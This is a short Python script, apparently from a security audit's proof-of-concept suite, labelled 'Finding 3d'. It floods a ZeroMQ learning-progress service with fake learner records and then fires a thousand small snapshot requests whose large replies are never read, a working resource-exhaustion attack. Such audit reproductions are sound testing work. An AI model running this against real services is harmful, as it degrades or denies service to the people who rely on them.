"""Finding 3d: 19-byte snapshot requests whose replies (the whole progress table) are never read."""

import json
import time

import zmq

from abuse import Attack, Client, arguments, log

options = arguments(lambda parser: (parser.add_argument("--learners", type=int, default=1500),
                                    parser.add_argument("--requests", type=int, default=1000)))
attack = Attack(options)
# Progress for many learners makes the snapshot large.
setup = Client(attack.context, options.endpoint)
for index in range(options.learners):
    setup.send("progress", {"op": "mark_watched", "learner": f"abuse-learner-{index:05}",
                            "course": "swiftui-essentials", "lesson": "views-and-modifiers"})
written = 0
for _ in range(options.learners):
    reply = setup.receive(30)
    if reply is None:
        break
    written += json.loads(reply[0]).get("ok", False)
reader = attack.context.socket(zmq.DEALER)
reader.setsockopt(zmq.LINGER, 0)
reader.connect(options.snapshot)
reader.send_multipart([b"SNAPSHOT", b"progress/"])
snapshot = reader.recv_multipart() if reader.poll(10_000) else []
snapshot_bytes = sum(len(frame) for frame in snapshot)
log(f"{written} progress writes; one snapshot is {snapshot_bytes} bytes")
for _ in range(options.requests):
    reader.send_multipart([b"SNAPSHOT", b"progress/"])
time.sleep(options.seconds)
reader.close()
attack.finish(progress_writes=written, snapshot_bytes=snapshot_bytes, unread_requests=options.requests)
